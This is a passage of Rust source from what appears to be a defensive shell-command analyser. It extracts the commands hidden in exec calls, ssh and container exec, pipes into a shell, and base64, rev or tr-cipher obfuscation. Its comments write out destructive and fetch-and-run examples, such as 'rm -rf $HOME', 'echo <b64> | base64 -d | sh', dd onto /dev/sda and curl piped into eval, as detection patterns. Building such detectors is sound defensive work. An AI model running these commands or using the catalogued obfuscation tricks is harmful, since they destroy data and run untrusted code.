            } else {
                continue;
            };
            // Text printed into a shell is its commands.
            let runs = lit
                .split_whitespace()
                .next()
                .is_some_and(|c| is_shell(c.rsplit('/').next().unwrap_or(c)));
            if runs {
                let mut at = 0;
                while let Some(q) = printed[at..].find('"') {
                    let Some((cmd, n)) =
                        crate::coach::text::code_literal(&printed[at + q + 1..], b'"')
                    else {
                        break;
                    };
                    at += q + 1 + n;
                    if sinks.len() < 8 {
                        sinks.push(cmd);
                    }
                }
            } else {
                sinks.push(lit);
            }
        }
    }
    (sources, sinks)
}

/// String literals passed to the usual "run a command" calls of scripting
/// languages: `os.system("...")`, `execSync('...')`, `system("...")`.
fn exec_literals(code: &str) -> Vec<String> {
    const CALLS: &[&str] = &[
        "system(",
        "popen(",
        "execSync(",
        "exec(",
        "spawnSync(",
        "check_output(",
        "check_call(",
        "run(",
        "call(",
        "Popen(",
        "shell_exec(",
        "passthru(",
        "proc_open(",
        "execute(",
        "getoutput(",
        "qx(",
        // AppleScript: `do shell script "…"`, `tell application "Terminal"
        // to do script "…"`.
        "do shell script ",
        "do script ",
        // JXA: `app.doShellScript("…")`, `$.NSTask.launchedTaskWithLaunchPathArguments(…)`.
        "doShellScript(",
        "launchedTaskWithLaunchPathArguments(",
        // Argument-vector calls: `spawn("bash", ["-c", "…"])`, `execFile(…)`,
        // `execv("/bin/sh", […])`.
        "spawn(",
        "execFile(",
        "execFileSync(",
        "execv(",
        "execvp(",
        // Go, Rust and Java: `exec.Command("sh", "-c", …)`,
        // `Command::new("sh").args(["-c", …])`, `new ProcessBuilder(…)`.
        "exec.Command(",
        "exec.CommandContext(",
        "Command::new(",
        "ProcessBuilder(",
    ];
    let mut out = Vec::new();
    // Swift and Objective-C set a process up by properties:
    // `p.executableURL = URL(fileURLWithPath: "/bin/bash")` (or
    // `launchPath = "/bin/bash"`), then `p.arguments = ["-c", "…"]`.
    if let Some(a) = code.find("arguments = [") {
        let path = ["fileURLWithPath:", "launchPath ="].iter().find_map(|k| {
            let r = code[code.find(k)? + k.len()..].trim_start();
            crate::coach::text::code_literal(r.strip_prefix('"')?, b'"').map(|x| x.0)
        });
        if let Some(path) = path {
            let argv = format!("\"{path}\", {}", &code[a + "arguments = [".len()..]);
            if let Some(line) = argv_command(&argv) {
                out.push(line);
            }
        }
    }
    for call in CALLS {
        let mut from = 0;
        while let Some(p) = code[from..].find(call) {
            let start = from + p + call.len();
            from = start;
            let rest = code[start..].trim_start();
            let mut chars = rest.chars();
            let Some(q) = chars.next() else { continue };
            // `execSync("…")` and Lua's `os.execute("…")` take a command
            // line, not an argument vector.
            let line_call = matches!(*call, "execSync(" | "execute(");
            if call.ends_with('(')
                && (q == '['
                    || call.starts_with("launched")
                    || call.starts_with("spawn")
                    || call.starts_with("exec") && !line_call
                    || call.starts_with("Command")
                    || call.starts_with("Process"))
            {
                // The words of an argument vector, in order, up to the
                // call's closing parenthesis (Rust's builder: through its
                // `.arg(…)`/`.args(…)` chain, up to the statement's end).
                let chained;
                let rest = if *call == "Command::new(" {
                    let end = rest.find(';').unwrap_or(rest.len()).min(MAX_ARGV_SCAN);
                    chained = rest[..end].replace(").args(", ", ").replace(").arg(", ", ");
                    chained.as_str()
                } else {
                    rest
                };
                if let Some(line) = argv_command(rest) {
                    if out.len() < 16 {
                        out.push(line);
                    }
                }
                continue;
            }
            if q != '"' && q != '\'' && q != '`' {
                continue;
            }
            if let Some((lit, used)) = crate::coach::text::code_literal(&rest[1..], q as u8) {
                let lit = lit + &concatenated(&rest[1 + used..]);
                if !lit.is_empty() && out.len() < 16 {
                    out.push(lit);
                }
            }
        }
    }
    out
}

/// What a command literal is joined with after it: `"rm -rf " ..
/// os.getenv("HOME")` (Lua), `"rm -rf " + os.environ["HOME"]` (Python,
/// JavaScript), `"rm -rf " . $ENV{HOME}` (Perl, PHP). Further literals are
/// taken as written; an expression becomes the shell variable it names
/// (`$HOME` for the home directory, `$X` for the environment's `X`), or
/// `$VAR` when it names none: the command runs on a value the call
/// computes. At most eight parts.
fn concatenated(after: &str) -> String {
    let mut out = String::new();
    let mut rest = after;
    for _ in 0..8 {
        let r = rest.trim_start();
        let op = if r.starts_with("..") {
            2
        } else if r.starts_with('+') || r.starts_with(". ") || r.starts_with(".$") {
            1
        } else {
            break;
        };
        let r = r[op..].trim_start();
        let Some(q) = r.bytes().next() else { break };
        if q == b'"' || q == b'\'' {
            let Some((lit, used)) = crate::coach::text::code_literal(&r[1..], q) else {
                break;
            };
            out.push_str(&lit);
            rest = &r[1 + used..];
            continue;
        }
        // An expression, up to the next operator or the call's end
        // (brackets and parentheses inside it kept whole).
        let mut depth = 0i32;
        let mut end = r.len();
        for (i, c) in r.char_indices() {
            match c {
                '(' | '[' | '{' => depth += 1,
                ')' | ']' | '}' if depth == 0 => {
                    end = i;
                    break;
                }
                ')' | ']' | '}' => depth -= 1,
                ',' | ';' | '+' | '\n' if depth == 0 => {
                    end = i;
                    break;
                }
                '.' if depth == 0 && r[i..].starts_with("..") => {
                    end = i;
                    break;
                }
                _ => {}
            }
        }
        let expr = &r[..end];
        if expr.is_empty() || expr.len() > 80 {
            break;
        }
        out.push_str(&expr_variable(expr));
        rest = &r[end..];
    }
    out
}

/// The shell variable an expression stands for: `os.getenv("HOME")`,
/// `os.environ['HOME']`, `process.env.HOME`, `$ENV{HOME}`, `ENV["HOME"]`,
/// `expanduser("~")`, `os.homedir()` -> `$HOME`; another variable's name
/// the same way; anything else `$VAR`.
fn expr_variable(expr: &str) -> String {
    let l = expr.to_ascii_lowercase();
    if l.contains("expanduser") || l.contains("homedir") || l.contains("home_dir") {
        return "$HOME".into();
    }
    let named = [
        "getenv(",
        "environ[",
        "environ.get(",
        "env[",
        "env.",
        "env{",
    ]
    .iter()
    .find_map(|k| {
        let i = expr.find(k).or_else(|| l.find(k))?;
        let name: String = expr[i + k.len()..]
            .trim_start_matches(['"', '\'', ' '])
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        (!name.is_empty()).then_some(name)
    });
    match named {
        Some(n) => format!("${n}"),
        None => "$VAR".into(),
    }
}

/// The commands inside `[$(…)]` subscripts of `src` (at most four).
fn subscript_commands(src: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(p) = src[from..].find("[$(") {
        let start = from + p + 3;
        let mut depth = 1;
        let mut end = None;
        for (i, c) in src[start..].char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = Some(start + i);
                        break;
                    }
                }
                _ => {}
            }
        }
        let Some(end) = end else { break };
        let cmd = src[start..end].trim();
        if !cmd.is_empty() && out.len() < 4 {
            out.push(cmd.to_string());
        }
        from = end;
    }
    out
}

/// Most argument-vector bytes read after a call's opening parenthesis.
const MAX_ARGV_SCAN: usize = 2048;

/// The command an argument-vector call runs, from the text after its `(`:
/// the string literals up to the closing `)`, in order. A shell with `-c`
/// runs its script (returned alone); otherwise the words are the command.
fn argv_command(rest: &str) -> Option<String> {
    let b = rest.as_bytes();
    let mut words: Vec<String> = Vec::new();
    let (mut i, mut depth) = (0, 0i32);
    while i < b.len().min(MAX_ARGV_SCAN) && words.len() < 32 {
        match b[i] {
            q @ (b'"' | b'\'' | b'`') => {
                let (lit, used) = crate::coach::text::code_literal(&rest[i + 1..], q)?;
                words.push(lit);
                i += 1 + used;
                continue;
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => {
                depth -= 1;
                if depth < 0 {
                    break;
                }
            }
            _ => {}
        }
        i += 1;
    }
    let first = words.first()?;
    if is_shell(&basename(first)) {
        if let Some(c) = words.iter().position(|w| w == "-c" || w == "-lc") {
            return words.get(c + 1).cloned();
        }
    }
    Some(words.join(" "))
}

/// The command of `kubectl|oc|lxc exec … -- CMD` (everything after `--`)
/// or `docker|podman|nerdctl exec [opts] CONTAINER CMD`.
pub(crate) fn container_exec_command(cmd: &str, args: &[String]) -> Option<String> {
    let first = args.iter().position(|a| !a.starts_with('-'))?;
    let verb = args[first].as_str();
    // `docker run [opts] IMAGE CMD…` runs CMD as surely as exec does;
    // `kubectl run NAME --image=… -- CMD…` likewise.
    if !matches!(verb, "exec" | "run" | "create") {
        return None;
    }
    let rest = &args[first + 1..];
    if matches!(cmd, "kubectl" | "oc" | "lxc" | "incus") {
        if verb == "create" {
            return None;
        }
        let dash = rest.iter().position(|a| a == "--")?;
        let inner = &rest[dash + 1..];
        return (!inner.is_empty()).then(|| inner.join(" "));
    }
    // Docker-style options that take a value (`-e K=V`, `-u root`); `run`
    // has many more.
    const WITH_VALUE: &[&str] = &[
        "-e",
        "--env",
        "--env-file",
        "-u",
        "--user",
        "-w",
        "--workdir",
        "--detach-keys",
    ];
    const RUN_WITH_VALUE: &[&str] = &[
        "-v",
        "--volume",
        "-p",
        "--publish",
        "--name",
        "--network",
        "--net",
        "--entrypoint",
        "--restart",
        "--mount",
        "--platform",
        "-l",
        "--label",
        "--add-host",
        "--cap-add",
        "--cap-drop",
        "--device",
        "--dns",
        "-h",
        "--hostname",
        "--ipc",
        "--pid",
        "--log-driver",
        "--log-opt",
        "-m",
        "--memory",
        "--runtime",
        "--security-opt",
        "--shm-size",
        "--ulimit",
        "--volumes-from",
        "--cpus",
        "--gpus",
        "-a",
        "--attach",
        "--link",
        "--tmpfs",
        "--pull",
        "--cidfile",
        "--userns",
        "--uts",
        "--cgroupns",
        "--expose",
        "--health-cmd",
        "--stop-signal",
        "--stop-timeout",
        "--sysctl",
        "--group-add",
    ];
    if verb == "exec" {
        return command_after_target(rest, WITH_VALUE);
    }
    if !matches!(cmd, "docker" | "podman" | "nerdctl") {
        return None;
    }
    let run_values: Vec<&str> = WITH_VALUE.iter().chain(RUN_WITH_VALUE).copied().collect();
    command_after_target(rest, &run_values)
}

/// ssh's options that take a value.
const SSH_WITH_VALUE: &[&str] = &[
    "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q",
    "-R", "-S", "-W", "-w",
];

fn ssh_remote_command(args: &[String]) -> Option<String> {
    command_after_target(args, SSH_WITH_VALUE)
}

/// The host `ssh` connects to (`-o Opt=x -p 22 user@host cmd` → `host`).
pub(crate) fn ssh_destination(args: &[String]) -> Option<&str> {
    let mut i = 0;
    while i < args.len() && args[i].starts_with('-') {
        if SSH_WITH_VALUE.contains(&args[i].as_str()) {
            i += 1;
        }
        i += 1;
    }
    let d = args.get(i)?.as_str();
    Some(d.rsplit('@').next().unwrap_or(d))
}

/// The words after the first operand (the host, the container), past
/// options (`with_value` ones take the next word): what `ssh host CMD` or
/// `docker exec -u root c CMD` runs.
fn command_after_target(args: &[String], with_value: &[&str]) -> Option<String> {
    let mut i = 0;
    while i < args.len() && args[i].starts_with('-') {
        if with_value.contains(&args[i].as_str()) {
            i += 1;
        }
        i += 1;
    }
    let inner = args.get(i + 1..)?;
    (!inner.is_empty()).then(|| inner.join(" "))
}

/// What a command prints when its output is a literal: `echo`/`printf`
/// arguments (escapes decoded: dash and zsh `echo` interpret them even
/// without `-e`), or the heredoc a bare `cat` reads.
pub fn literal_output(seg: &Segment) -> Option<String> {
    match seg.cmd.as_str() {
        "printf" => Some(printf(&seg.args)),
        "echo" => {
            let t = seg
                .args
                .iter()
                .filter(|a| !(a.starts_with('-') && a.len() <= 3))
                .cloned()
                .collect::<Vec<_>>()
                .join(" ");
            Some(crate::coach::text::unescape_c(&t))
        }
        "cat" if seg.args.is_empty() => seg.stdin_text.clone(),
        _ => None,
    }
}

/// What `printf FORMAT ARGS…` prints: the format's escapes decoded, `%s`,
/// `%b` and `%c` filled from the arguments, and the format reused while
/// arguments remain, as the shell does (`printf 'ba%s' sh` is `bash`,
/// `printf %s r m` is `rm`). Widths are ignored; any other conversion
/// prints its argument as written.
fn printf(args: &[String]) -> String {
    /// Rounds of a reused format: bounds `printf %s` with many arguments.
    const MAX_ROUNDS: usize = 64;
    let mut args = args.iter().map(String::as_str).skip_while(|a| *a == "--");
    let Some(fmt) = args.next() else {
        return String::new();
    };
    let fmt = crate::coach::text::unescape_c(fmt);
    let rest: Vec<&str> = args.collect();
    let (mut out, mut next) = (String::new(), 0);
    for _ in 0..MAX_ROUNDS {
        let before = next;
        let mut it = fmt.chars().peekable();
        while let Some(c) = it.next() {
            if c != '%' {
                out.push(c);
                continue;
            }
            if it.peek() == Some(&'%') {
                it.next();
                out.push('%');
                continue;
            }
            while it
                .peek()
                .is_some_and(|c| c.is_ascii_digit() || "-+ #.".contains(*c))
            {
                it.next();
            }
            let arg = rest.get(next).copied().unwrap_or("");
            next += 1;
            match it.next() {
                Some('b') => out.push_str(&crate::coach::text::unescape_c(arg)),
                Some('c') => out.extend(arg.chars().next()),
                _ => out.push_str(arg),
            }
        }
        if next == before || next >= rest.len() {
            break;
        }
    }
    out
}

/// One decoding step of a pipeline (`rev`, `base64 -d`, `xxd -r`):
/// `None` when `seg` is not a decoder or the text does not decode.
fn decode_through(seg: &Segment, text: &str) -> Option<String> {
    match seg.cmd.as_str() {
        "rev" => Some(text.chars().rev().collect()),
        "base64" | "openssl" if seg.has_flag('d', "--decode") || seg.has_flag('D', "") => {
            crate::coach::text::decode_base64(text.trim())
        }
        "xxd" if seg.has_flag('r', "") => crate::coach::text::decode_hex(text.trim()),
        "tr" => tr_cipher(seg).map(|(from, to)| {
            text.chars()
                .map(|c| from.iter().position(|&f| f == c).map_or(c, |k| to[k]))
                .collect()
        }),
        _ => None,
    }
}

/// `tr SET1 SET2` when it is a letter cipher (ROT13, any shift, a
/// substitution alphabet): some letter goes to another letter of the same
/// case. Case conversion and one-character swaps are not. The sets as
/// `tr` pairs them (SET2 padded with its last character).
pub fn tr_cipher(seg: &Segment) -> Option<(Vec<char>, Vec<char>)> {
    if seg.cmd != "tr" || seg.args.iter().any(|a| a.starts_with('-')) || seg.args.len() != 2 {
        return None;
    }
    let from = tr_set(&seg.args[0])?;
    let mut to = tr_set(&seg.args[1])?;
    if from.len() < 10 || to.is_empty() {
        return None;
    }
    let last = *to.last()?;
    to.resize(from.len(), last);
    let cipher = from.iter().zip(&to).any(|(f, t)| {
        f != t
            && ((f.is_ascii_lowercase() && t.is_ascii_lowercase())
                || (f.is_ascii_uppercase() && t.is_ascii_uppercase()))
    });
    cipher.then_some((from, to))
}

/// A `tr` set written out: ranges (`a-z`), the letter classes, `\\`
/// escapes. None for what this does not model or an unbounded set.
fn tr_set(arg: &str) -> Option<Vec<char>> {
    let arg = arg
        .replace("[:lower:]", "a-z")
        .replace("[:upper:]", "A-Z")
        .replace("[:digit:]", "0-9");
    if arg.contains("[:") || arg.len() > 256 {
        return None;
    }
    let c: Vec<char> = arg.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < c.len() {
        let mut ch = c[i];
        if ch == '\\' && i + 1 < c.len() {
            i += 1;
            ch = c[i];
        }
        if i + 2 < c.len() && c[i + 1] == '-' && c[i + 2] >= ch {
            out.extend(ch..=c[i + 2]);
            i += 3;
        } else {
            out.push(ch);
            i += 1;
        }
    }
    (out.len() <= 512).then_some(out)
}

/// `echo 'cmd' | sh`, `printf ... | rev | bash`, `echo <b64> | base64 -d | sh`.
/// `body` as the program of interpreter `seg` when the interpreter reads
/// its program from stdin (no code flag, no script file): written as the
/// one-liner it is (`python3 -c '…'`), so it is judged the same way.
fn stdin_program(seg: &Segment, body: &str) -> Option<String> {
    let cmd = seg.cmd.as_str();
    let flag = match cmd {
        c if c.starts_with("python") => "-c",
        "perl" | "ruby" | "node" | "nodejs" | "lua" => "-e",
        "php" => "-r",
        "pwsh" | "powershell" => "-Command",
        "tclsh" | "wish" => "-c",
        // swift has no flag for inline code; `-e` here only marks the
        // program for `interpreter_code`.
        "swift" => "-e",
        _ => return None,
    };
    seg.args
        .iter()
        .all(|a| a == "-" || a.starts_with('-'))
        .then(|| format!("{cmd} {flag} {}", single_quoted(body)))
}

fn collect_piped_literals(segs: &[Segment], nested: &mut Vec<(String, bool)>) {
    // A text tool that writes commands into a shell (`… | sed 's/^/kubectl
    // delete ns /' | sh`, `awk '{print "docker rm " $1}' | sh`): the
    // command it prints, with `*` for what comes from its input.
    for w in segs.windows(2) {
        let (s, t) = (&w[0], &w[1]);
        if s.sep == Sep::Pipe
            && t.pipeline == s.pipeline
            && is_shell(&t.cmd)
            && t.operands().next().is_none()
        {
            if let Some(cmd) = generated_template(s) {
                nested.push((cmd, false));
            }
        }
    }
    let mut i = 0;
    while i < segs.len() {
        let s = &segs[i];
        if let (Some(mut text), Sep::Pipe) = (literal_output(s), s.sep) {
            let mut decoded = false;
            let mut j = i + 1;
            while j < segs.len() && segs[j].pipeline == s.pipeline {
                let t = &segs[j];
                if let Some(d) = decode_through(t, &text) {
                    text = d;
                    decoded = true;
                }
                if is_shell(&t.cmd) && t.operands().next().is_none() {
                    nested.push((text.clone(), decoded));
                    break;
                }
                // `echo '<code>' | python3`: the literal is the program.
                if let Some(code) = stdin_program(t, &text) {
                    nested.push((code, decoded));
                    break;
                }
                // `echo /dev/sda | xargs -I{} dd of={}`, `echo /home |
                // xargs rm -rf`: xargs builds the command from the words
                // (its `-I` slot is `*` in the parsed arguments).
                if t.xargs {
                    let words: Vec<&str> = text.split_whitespace().take(16).collect();
                    if !words.is_empty() {
                        let slot = t.args.iter().any(|a| a.contains('*'));
                        let mut line: Vec<String> = Vec::new();
                        if t.sudo {
                            line.push("sudo".into());
                        }
                        line.push(t.cmd.clone());
                        for a in &t.args {
                            line.push(if slot {
                                a.replace('*', words[0])
                            } else {
                                a.clone()
                            });
                        }
                        if !slot {
                            line.extend(words.iter().map(|w| w.to_string()));
                        }
                        nested.push((line.join(" "), decoded));
                    }
                    break;
                }
                j += 1;
            }
        }
        i += 1;
    }
}

/// The command line a `sed` substitution, an `awk` print or a `jq -r`
/// string writes, with `*` where its input goes.
fn generated_template(seg: &Segment) -> Option<String> {
    let script = seg.args.iter().find(|a| !a.starts_with('-'))?;
    let t = match seg.cmd.as_str() {
        "sed" | "gsed" => {
            let body = script.strip_prefix('s')?;
            let d = body.chars().next()?;
            let mut parts = body[d.len_utf8()..].split(d);
            let _pat = parts.next()?;
            let rep = parts.next()?;
            // `&` and `\1`…`\9` are the matched input; other escapes
            // stand for their character.
            let mut out = String::with_capacity(rep.len());
            let mut chars = rep.chars();
            while let Some(c) = chars.next() {
                match c {
                    '&' => out.push('*'),
                    '\\' => match chars.next() {
                        Some(d) if d.is_ascii_digit() => out.push('*'),
                        Some(d) => out.push(d),
                        None => {}
                    },
                    c => out.push(c),
                }
            }
            out
        }
        "awk" | "gawk" | "mawk" if script.contains("print") => {
            let lits: Vec<&str> = script.split('"').skip(1).step_by(2).collect();
            lits.join("*")
        }
        "jq" => {
            let l = script.split('"').nth(1)?;
            let mut out = String::new();
            let mut rest = l;
            while let Some(i) = rest.find("\\(") {
                out.push_str(&rest[..i]);
                out.push('*');
                rest = rest[i..].split_once(')').map_or("", |x| x.1);
            }
            out.push_str(rest);
            out
        }
        _ => return None,
    };
    let t = t.trim();
    (t.contains(' ') && t.len() <= 1024).then(|| format!("{t} *"))
}

/// The manifest `kubectl|oc apply|create|replace -f -` reads from a
/// heredoc or from literal text piped in.
pub fn applied_manifest(segs: &[Segment]) -> Option<String> {
    segs.iter().enumerate().find_map(|(i, s)| {
        let applies = matches!(s.cmd.as_str(), "kubectl" | "oc")
            && s.args
                .first()
                .is_some_and(|a| matches!(a.as_str(), "apply" | "create" | "replace"))
            && s.args.windows(2).any(|w| w[0] == "-f" && w[1] == "-");
        if !applies {
            return None;
        }
        s.stdin_text.clone().or_else(|| {
            (i > 0 && segs[i - 1].sep == Sep::Pipe)
                .then(|| literal_output(&segs[i - 1]))
                .flatten()
        })
    })
}

/// Options naming what an archiver or copier leaves out (`--exclude .env`,
/// `--exclude=.env`, zip's `-x`): the files they name are not read.
pub fn excludes_next(cmd: &str, arg: &str) -> bool {
    matches!(arg, "--exclude" | "--exclude-from" | "--filter") || (cmd == "zip" && arg == "-x")
}

/// `--exclude=PATTERN` and `--filter=RULE` in one word.
pub fn is_exclusion(arg: &str) -> bool {
    arg.starts_with("--exclude") || arg.starts_with("--filter")
}

/// A `find` that selects files by a throwaway extension (`-name '*.dmg'`,
/// `-iname '*.pyc'`): deleting what it finds is housekeeping in any folder,
/// where deleting a folder's own files is not.
pub fn find_selects_disposable(seg: &Segment) -> bool {
    const DISPOSABLE: &[&str] = &[
        "dmg",
        "pkg",
        "iso",
        "tmp",
        "log",
        "pyc",
        "pyo",
        "o",
        "class",
        "bak",
        "swp",
        "part",
        "crdownload",
        "cache",
        "orig",
        "rej",
    ];
    // `-name '*.tmp' -o -name '.*' -delete`: without parentheses, -delete
    // belongs to the last alternative only, and that is what it removes.
    let grouped = seg.args.iter().any(|a| a.contains('(') || a.contains(')'));
    let args = match seg.args.iter().rposition(|a| a == "-o" || a == "-or") {
        Some(i) if !grouped => &seg.args[i + 1..],
        _ => &seg.args[..],
    };
    // `-delete` before any test acts on every file it walks: what follows
    // it selects nothing (`find ~ -delete -name '*.swp'`).
    if let Some(d) = args.iter().position(|a| a == "-delete") {
        if !args[..d]
            .iter()
            .any(|a| a.starts_with('-') && a != "-delete")
        {
            return false;
        }
    }
    args.windows(2).any(|w| {
        matches!(w[0].as_str(), "-name" | "-iname")
            && w[1].rsplit_once('.').is_some_and(|(stem, ext)| {
                stem.ends_with('*') && DISPOSABLE.contains(&ext.to_ascii_lowercase().as_str())
            })
    })
}

pub fn basename(w: &str) -> String {
    let b = w.rsplit('/').next().unwrap_or(w);
    b.to_ascii_lowercase()
}

/// Commands that only wrap another one: dropped with their options.
fn wrapper_value_options(cmd: &str) -> Option<&'static [&'static str]> {
    Some(match cmd {
        "env" => &["-u", "-C", "-S"],
        "command" | "builtin" | "nohup" | "time" | "setsid" | "busybox" | "unbuffer"
        | "caffeinate" => &[],
        // `exec -a NAME prog`: the name is what `ps` will show.
        "exec" => &["-a"],
        "nice" | "renice" => &["-n"],
        "ionice" => &["-c", "-n"],
        "stdbuf" => &["-i", "-o", "-e"],
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "xargs" => &["-I", "-n", "-P", "-d", "-L", "-s", "-a", "-E"],
        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
        "chrt" | "taskset" => &[],
        _ => return None,
    })
}

/// GNU parallel's options that take a value.
const PARALLEL_VALUE_OPTIONS: &[&str] = &[
    "-j",
    "--jobs",
    "-N",
    "-n",
    "--max-args",
    "-S",
    "--sshlogin",
    "--joblog",
    "-a",
    "--arg-file",
    "--delay",
    "--timeout",
    "--results",
    "--colsep",
    "-C",
    "-d",
    "--delimiter",
    "--tmpdir",
    "--workdir",
    "--wd",
    "-E",
    "-I",
    "--memfree",
    "--load",
];

/// The command GNU parallel runs, as one shell line: its template (the
/// words before `:::`, or one quoted word) with the inputs after `:::` in
/// its `{}` slot (or appended, as parallel does); inputs from the pipe
/// read as `*`. `None` when there is no template (commands read from the
/// input) or too much to spell out.
fn parallel_command(args: &[String]) -> Option<String> {
    let mut i = 0;
    while i < args.len() && args[i].starts_with('-') && !args[i].starts_with(":::") {
        i += if PARALLEL_VALUE_OPTIONS.contains(&args[i].as_str()) {
            2
        } else {
            1
        };
    }
    let rest = args.get(i..)?;
    let cut = rest
        .iter()
        .position(|w| w.starts_with(":::"))
        .unwrap_or(rest.len());
    let template = rest[..cut].join(" ");
    if template.trim().is_empty() || template.len() > 4096 {
        return None;
    }
    let inputs: Vec<&str> = rest[cut..]
        .iter()
        .filter(|w| !w.starts_with(":::"))
        .map(String::as_str)
        .take(64)
        .collect();
    let filled = if inputs.is_empty() {
        "*".to_string()
    } else {
        inputs.join(" ")
    };
    // `{}` and its variants (`{.}`, `{/}`, `{1}`) are where an input lands.
    let slots = ["{}", "{.}", "{/}", "{//}", "{/.}", "{#}", "{1}", "{2}"];
    Some(if slots.iter().any(|x| template.contains(x)) {
        slots.iter().fold(template, |t, x| t.replace(x, &filled))
    } else {
        format!("{template} {filled}")
    })
}

struct Lexer<'a> {
    s: &'a [u8],
    src: &'a str,
    i: usize,
    vars: &'a mut HashMap<String, String>,
    obfuscated: bool,
    substitutions: Vec<String>,
    /// Heredoc delimiters met on the current line: (delimiter, strip tabs).
    pending_heredocs: Vec<(String, bool)>,
    /// Nesting depth of the script being lexed: a substitution's output is
    /// worked out one level deeper, and not past [`MAX_DEPTH`].
    depth: usize,
}

#[derive(Default)]
struct Word {
    text: String,
    /// Any part of it came from quotes or escapes (never an operator).
    quoted: bool,
    /// Unquoted `{a,b}` present: brace-expand.
    brace: bool,
    /// Parts quoted differently were glued (`r''m`).
    glued_quotes: bool,
    /// `$IFS` split the word.
    ifs_split: bool,
    /// An unquoted expansion whose value holds blanks: split into words
    /// at them (default `IFS`), as the shell does (`v="rm -rf /"; $v`).
    word_split: bool,
    /// A `for` loop's variable expanded here: the span of `$name` in
    /// `text` and the loop's items; the word stands for one word per item.
    list: Option<(usize, usize, Vec<String>)>,
    started: bool,
}

/// Separates the items of a `for` loop's list in the variable it binds.
const LIST_SEP: char = '\u{1}';
/// Most items of a `for` list bound to its variable.
const MAX_FOR_ITEMS: usize = 32;
/// A variable grown with `+=` stops growing here: the input is capped
/// already, and a loop of appends must not multiply it.
const MAX_VAR_BYTES: usize = 4096;
/// Longest word made into one word per item (bounds the copies a loop
/// variable can make of a long word).
const MAX_LIST_WORD: usize = 1024;

enum Tok {
    Word(Word),
    Op(String),
    Redir(String),
    Newline,
    End,
}

impl<'a> Lexer<'a> {
    /// Remembers an assignment (at most 256 names); `appends` adds to
    /// what the name held (`u=ht; u+=tp://…`).
    fn assign(&mut self, name: String, value: String, appends: bool) {
        if let Some(old) = self.vars.get_mut(&name) {
            if appends {
                if old.len() + value.len() <= MAX_VAR_BYTES {
                    old.push_str(&value);
                }
            } else {
                *old = value;
            }
        } else if self.vars.len() < 256 {
            self.vars.insert(name, value);
        }
    }

    fn peek(&self) -> Option<u8> {
        self.s.get(self.i).copied()
    }
    fn peek_at(&self, k: usize) -> Option<u8> {
        self.s.get(self.i + k).copied()
    }

    /// One simple command: words and redirections up to a separator.
    fn segment(&mut self) -> (Option<Segment>, Sep, bool) {
        let mut words: Vec<Word> = Vec::new();
        let mut redirs: Vec<Redir> = Vec::new();
        let mut heredoc_idx: Vec<usize> = Vec::new();
        let mut here_string: Option<String> = None;
        self.substitutions.clear();
        let (sep, more) = loop {
            match self.token() {
                Tok::Word(w) => words.push(w),
                Tok::Redir(op) => {
                    // fd duplications (`2>&1`, `>&3`) carry their target in the op.
                    let target = if op.ends_with('&')
                        && self.peek().is_some_and(|c| c.is_ascii_digit() || c == b'-')
                    {
                        let st = self.i;
                        while self.peek().is_some_and(|c| c.is_ascii_digit() || c == b'-') {
                            self.i += 1;
                        }
                        self.src[st..self.i].to_string()
                    } else {
                        self.skip_blanks();
                        match self.token() {
                            Tok::Word(w) => w.text,
                            _ => String::new(),
                        }
                    };
                    if op.ends_with("<<<") {
                        here_string = Some(target.clone());
                    } else if op.ends_with("<<") || op.ends_with("<<-") {
                        self.pending_heredocs
                            .push((target.clone(), op.ends_with('-')));
                        heredoc_idx.push(redirs.len());
                    }
                    redirs.push(Redir { op, target });
                }
                Tok::Op(op) => {
                    let sep = match op.as_str() {
                        "&&" => Sep::And,
                        "||" => Sep::Or,
                        "|" | "|&" => Sep::Pipe,
                        _ => Sep::Seq,
                    };
                    break (sep, true);
                }
                Tok::Newline => break (Sep::Seq, true),
                Tok::End => break (Sep::Seq, false),
            }
        };
        // Heredoc bodies start after the line that introduced them.
        let mut stdin_text = here_string;
        if !self.pending_heredocs.is_empty()
            && (self.i >= self.s.len() || self.s[self.i - 1] == b'\n')
        {
            let docs = std::mem::take(&mut self.pending_heredocs);
            for (delim, strip) in docs {
                let body = self.heredoc_body(&delim, strip);
                stdin_text = Some(body);
            }
        }
        let subs = std::mem::take(&mut self.substitutions);
        let seg = self.finish(words, redirs, stdin_text, subs);
        (seg, sep, more)
    }

    fn heredoc_body(&mut self, delim: &str, strip: bool) -> String {
        let mut body = String::new();
        while self.i < self.s.len() {
            let end = self.src[self.i..]
                .find('\n')
                .map(|p| self.i + p)
                .unwrap_or(self.s.len());
            let line = &self.src[self.i..end];
            self.i = (end + 1).min(self.s.len());
            let cmp = if strip {
                line.trim_start_matches('\t')
            } else {
                line
            };
            if cmp.trim_end() == delim {
                break;
            }
            body.push_str(line);
            body.push('\n');
        }
        body
    }

    fn finish(
        &mut self,
        words: Vec<Word>,
        mut redirs: Vec<Redir>,
        stdin_text: Option<String>,
        substitutions: Vec<String>,
    ) -> Option<Segment> {
        let mut texts: Vec<String> = Vec::with_capacity(words.len());
        for w in words {
            if w.glued_quotes || w.ifs_split {
                self.obfuscated = true;
            }
            if w.brace {
                texts.extend(brace_expand(&w.text));
            } else if w.ifs_split || w.word_split {
                texts.extend(
                    w.text
                        .split(' ')
                        .filter(|p| !p.is_empty())
                        .map(str::to_string),
                );
            } else if let Some((start, end, items)) = w.list.as_ref().filter(|(a, b, _)| {
                // Only a word that starts with the variable (`$d`, `"$d"`,
                // `$d/sub`): inside a longer word (`10.0.0.$i`,
                // `"</dev/tcp/h/$p"`) it stays a variable, which is what the
                // sweep checks look for.
                *a == 0
                    && *b <= w.text.len()
                    && w.text.is_char_boundary(*b)
                    && w.text.len() <= MAX_LIST_WORD
            }) {
                for item in items {
                    texts.push(format!("{}{item}{}", &w.text[..*start], &w.text[*end..]));
                }
            } else {
                texts.push(w.text);
            }
        }
        // Compound-command keywords: the command, or the assignments
        // before it (`do c=$(curl …); eval "$c"`), follow them.
        let mut k = 0;
